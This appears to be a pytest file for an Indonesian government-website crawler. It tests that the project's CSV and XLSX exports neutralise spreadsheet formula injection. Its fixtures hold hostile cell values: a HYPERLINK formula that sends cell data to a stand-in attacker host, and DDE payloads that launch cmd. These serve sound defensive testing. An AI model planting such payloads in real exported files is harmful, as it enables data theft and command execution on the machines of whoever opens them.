"""Issue #15: every CSV and XLSX cell the project writes holds text, never a formula; the CSV export
holds the same rows as the JSON export (scores and reviews included)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlmodel import select
from test_scoring_seed import PEMDA, seed

from scoring.catalog import Catalog
from scoring.cells import FORMULA_STARTS, csv_text, write_csv, xlsx_text
from scoring.estimator import Estimate
from scoring.review import new_review
from scoring.worksheet import SheetRow, build_rows, headers
from scoring.worksheet import write_csv as write_worksheet_csv
from scoring.worksheet_xlsx import write_xlsx
from spbe_crawler.assessment import estimate_pemda, record_review
from spbe_crawler.config import DATA_DIR
from spbe_crawler.export import export_data, to_json, write_csv_tables
from spbe_crawler.reports.coverage import Coverage, CoverageRow, write_coverage
from spbe_crawler.reports.coverage import write_csv as write_coverage_csv
from spbe_crawler.store.db import session_scope
from spbe_crawler.store.models import CrawlRun, SiteCheck, Unit, UnitOutcome, Website

HOSTILE_NAME = '=HYPERLINK("http://jahat.example/?d="&A1,"Kelurahan Bakung")'
HOSTILE_SNIPPET = "+cmd|' /C calc'!A0"
HOSTILE_DETAIL = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_NOTE = "-2+3+cmd|' /C notepad'!A0"
WHEN = datetime(2026, 4, 1, 9, 0, tzinfo=UTC)


def as_text(value: str) -> str:
    """What a spreadsheet must show for ``value``: the same text, a formula start neutralised (OWASP)."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def assert_no_formula(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


@pytest.fixture
def hostile_store(tmp_path: Path) -> str:
    """The scoring seed plus crawled text meant to run as a formula, scores of two frameworks, a review."""
    seeded = seed(f"sqlite:///{tmp_path / 'spbe.sqlite3'}")
    with session_scope(seeded.url) as session:
        session.add(Unit(code="18.71.01.1099", name=HOSTILE_NAME, kind="kelurahan", parent_code="18.71.01", pemda_code=PEMDA))
        site = Website(unit_code="18.71.01.1099", url="https://bakung.example.go.id/", host="bakung.example.go.id")
        session.add(site)
        session.flush()
        session.add(UnitOutcome(run_id=seeded.latest_run, unit_code="18.71.01.1099", status="hacked_gambling", detail=HOSTILE_DETAIL))
        session.add(
            SiteCheck(
                run_id=seeded.latest_run,
                website_id=site.id,
                unit_code="18.71.01.1099",
                url=site.url,
                status="hacked_gambling",
                detail=HOSTILE_DETAIL,
                snippet=HOSTILE_SNIPPET,
                signals={"title": HOSTILE_NAME},
            )
        )
    with session_scope(seeded.url) as session:
        for framework in ("spbe-2020", "pemdi-2026"):
            estimate_pemda(session, PEMDA, framework, seeded.latest_run)
        record_review(session, PEMDA, "spbe-2020", 44, 2, "=Ani", HOSTILE_NOTE)
    return seeded.url


def test_coverage_csv_neutralises_crawled_text(hostile_store: str, tmp_path: Path) -> None:
    with session_scope(hostile_store) as session:
        _, csv_path, coverage = write_coverage(session, PEMDA, tmp_path / "laporan")
    table = read_csv(csv_path)
    assert_no_formula(table)
    by_code = {row[0]: dict(zip(table[0], row, strict=True)) for row in table[1:]}
    assert by_code["18.71.01.1099"]["nama"] == "'" + HOSTILE_NAME
    assert by_code["18.71.01.1099"]["detail"] == "'" + HOSTILE_DETAIL
    assert len(table) - 1 == len(coverage.rows)


def expected_cell(value: Any) -> str:
    """A JSON export value as the CSV export must hold it."""
    if value is None:
        return ""
    if isinstance(value, (list, dict)):
        return as_text(json.dumps(value, ensure_ascii=False))
    if isinstance(value, str):
        return as_text(value)
    return str(value)


def json_tables(doc: dict[str, Any]) -> dict[str, list[dict[str, Any]]]:
    """The tables the CSV export must hold, taken from the JSON export (one file each)."""
    frameworks = doc["assessment"]["frameworks"]
    return {
        "units": doc["units"],
        "websites": doc["websites"],
        "findings": doc["findings"],
        "site_checks": doc["survey"]["site_checks"],
        "unit_outcomes": doc["survey"]["unit_outcomes"],
        "scores": [{"framework": fid, **row} for fid in sorted(frameworks) for row in frameworks[fid]["scores"]],
        "reviews": [{"framework": fid, **row} for fid in sorted(frameworks) for row in frameworks[fid]["reviews"]],
        "monitor_sites": doc["monitoring"]["sites"],
        "monitor_incidents": doc["monitoring"]["incidents"],
    }


def test_every_csv_of_the_export_holds_the_json_export(hostile_store: str, tmp_path: Path) -> None:
    with session_scope(hostile_store) as session:
        data = export_data(session, PEMDA)
    doc = json.loads(to_json(data))
    paths = write_csv_tables(data, tmp_path / "ekspor")
    tables = json_tables(doc)
    assert {p.name for p in paths} == {f"{PEMDA}-{name}.csv" for name in tables}
    assert len(tables["scores"]) == 47 + 20 and len(tables["reviews"]) == 1
    assert any(u["name"] == HOSTILE_NAME for u in tables["units"])
    for path in paths:
        name = path.name.removeprefix(f"{PEMDA}-").removesuffix(".csv")
        table = read_csv(path)
        assert_no_formula(table)
        rows = tables[name]
        if not rows:
            assert table == [[]] or table == [], name
            continue
        header, body = table[0], table[1:]
        assert set(header) == {key for row in rows for key in row}, name
        assert body == [[expected_cell(row.get(column)) for column in header] for row in rows], name
    scores = read_csv(tmp_path / "ekspor" / f"{PEMDA}-scores.csv")
    assert {row[scores[0].index("framework")] for row in scores[1:]} == {"spbe-2020", "pemdi-2026"}
    review = dict(zip(*read_csv(tmp_path / "ekspor" / f"{PEMDA}-reviews.csv"), strict=True))
    assert (review["note"], review["reviewer"], review["level"]) == ("'" + HOSTILE_NOTE, "'=Ani", "2")


def test_the_store_behind_the_export_holds_what_the_csv_shows(hostile_store: str) -> None:
    """The figures the CSV test relies on come from the database, not from the export code."""
    with session_scope(hostile_store) as session:
        assert session.exec(select(CrawlRun)).all()
        assert session.exec(select(SiteCheck).where(SiteCheck.snippet == HOSTILE_SNIPPET)).one()


# --- property: any text, any writer -------------------------------------------------------------

texts = st.one_of(
    st.text(),
    st.builds(lambda start, rest: start + rest, st.sampled_from([*FORMULA_STARTS, "'", " =", "\n="]), st.text()),
)
FAST = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
SLOW = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@FAST
@given(text=texts)
@example(text="=1+1")
@example(text="\t=1")
@example(text="\r\n")
@example(text="a\x00b")
def test_shared_csv_writer_round_trips_any_text(tmp_path: Path, text: str) -> None:
    path = write_csv(tmp_path / "t.csv", ["kolom", text], [[text, 7, None], [text]])
    table = read_csv(path)
    assert table == [["kolom", as_text(text)], [as_text(text), "7", ""], [as_text(text)]]
    assert_no_formula(table)
    download = csv_text(["kolom", text], [[text, 7, None], [text]])  # the web's CSV download
    assert download.startswith("\ufeff") and list(csv.reader(io.StringIO(download[1:], newline=""))) == table


@FAST
@given(text=texts)
def test_coverage_csv_round_trips_any_text(tmp_path: Path, text: str) -> None:
    row = CoverageRow(text, text, "kelurahan", text, [text, "https://a.example/"], ["declared"], "ok", text, True, text)
    table = read_csv(write_coverage_csv(Coverage(PEMDA, text, None, [row]), tmp_path / "c.csv"))
    assert_no_formula(table)
    assert table[1] == [as_text(text), as_text(text), "kelurahan", as_text(text), as_text(text + ";https://a.example/")] + [
        "declared",
        "ok",
        as_text(text),
        "ya",
        as_text(text),
    ]


@FAST
@given(text=texts)
def test_export_csv_round_trips_any_text(tmp_path: Path, text: str) -> None:
    data = {
        "pemda_code": PEMDA,
        "units": [{"code": text, "name": text}],
        "websites": [{"url": text, "evidence": None}],
        "findings": [{"snippet": text, "signals": [text]}],
        "survey": {"site_checks": [{"detail": text}], "unit_outcomes": [{"detail": text}]},
        "assessment": {"frameworks": {"spbe-2020": {"scores": [{"rationale": text}], "reviews": [{"note": text, "reviewer": text}]}}},
        "monitoring": {"sites": [{"last_detail": text}], "incidents": [{"detail": text}]},
    }
    for path in write_csv_tables(data, tmp_path / "e"):
        table = read_csv(path)
        assert_no_formula(table)
        as_json = as_text(json.dumps([text], ensure_ascii=False))
        assert len(table) == 2 and all(cell in (as_text(text), as_json, "", "spbe-2020") for cell in table[1])
        assert as_text(text) in table[1] or as_json in table[1]


FRAMEWORK = Catalog(DATA_DIR / "frameworks").framework("spbe-2020")


def worksheet_rows(text: str) -> list[SheetRow]:
    estimates = {35: Estimate(35, 3, 0.65, 4, text, (12,))}
    reviewer = text[:100] if text[:100].strip() else "Ani"
    confirmed = {44: new_review(FRAMEWORK, 44, 2, reviewer, text, now=WHEN)}
    return build_rows(FRAMEWORK, estimates, confirmed, {35: [text, text]})


@FAST
@given(text=texts)
def test_worksheet_csv_round_trips_any_text(tmp_path: Path, text: str) -> None:
    table = read_csv(write_worksheet_csv(FRAMEWORK, worksheet_rows(text), tmp_path / "w.csv"))
    assert_no_formula(table)
    r35, r44 = (dict(zip(headers(FRAMEWORK), table[n], strict=True)) for n in (35, 44))
    assert r35["Alasan perkiraan"] == as_text(text) and r35["URL bukti"] == as_text(f"{text}\n{text}")


@SLOW
@given(text=texts)
@example(text='=HYPERLINK("http://jahat.example","klik")')
@example(text="a\x00\x1b\ufffe b")
def test_worksheet_xlsx_holds_any_text_as_text(tmp_path: Path, text: str) -> None:
    path = write_xlsx(FRAMEWORK, PEMDA, text, worksheet_rows(text), tmp_path / "w.xlsx", WHEN)
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    ws = wb["Penilaian"]
    cols = {c.value: c.column for c in ws[4]}
    rows = {ws.cell(row=r, column=cols["No"]).value: r for r in range(5, ws.max_row + 1)}
    shown = xlsx_text(text)
    assert ws.cell(row=rows[35], column=cols["Alasan perkiraan"]).value == (shown or None)
    assert ws.cell(row=rows[44], column=cols["Catatan"]).value == (xlsx_text(text.strip()[:2000]) or None)
    assert shown in (ws["A1"].value or "")
    assert wb["meta"]["B4"].value == (shown or None)


# Writers of files meant as *input* to the project, not as reports: the demo web's registry CSV is
# read back by `spbe registry import`, where a "'" prefix would become part of a unit name.
INPUT_FILE_WRITERS = {"spbe_crawler/demo/manifest.py"}


def test_every_csv_and_xlsx_writer_goes_through_the_shared_cells() -> None:
    """A CSV or workbook written anywhere else would bypass the formula neutralisation tested above."""
    root = Path(__file__).resolve().parent.parent
    bypass = []
    for package in ("spbe_crawler", "inventory", "scoring"):
        for path in (root / package).rglob("*.py"):
            name = path.relative_to(root).as_posix()
            source = path.read_text(encoding="utf-8")
            if name not in {"scoring/cells.py", *INPUT_FILE_WRITERS} and ("csv.writer(" in source or "csv.DictWriter(" in source):
                bypass.append(name)
            if name != "scoring/worksheet_xlsx.py" and "Workbook(" in source:
                bypass.append(name)
    assert bypass == []
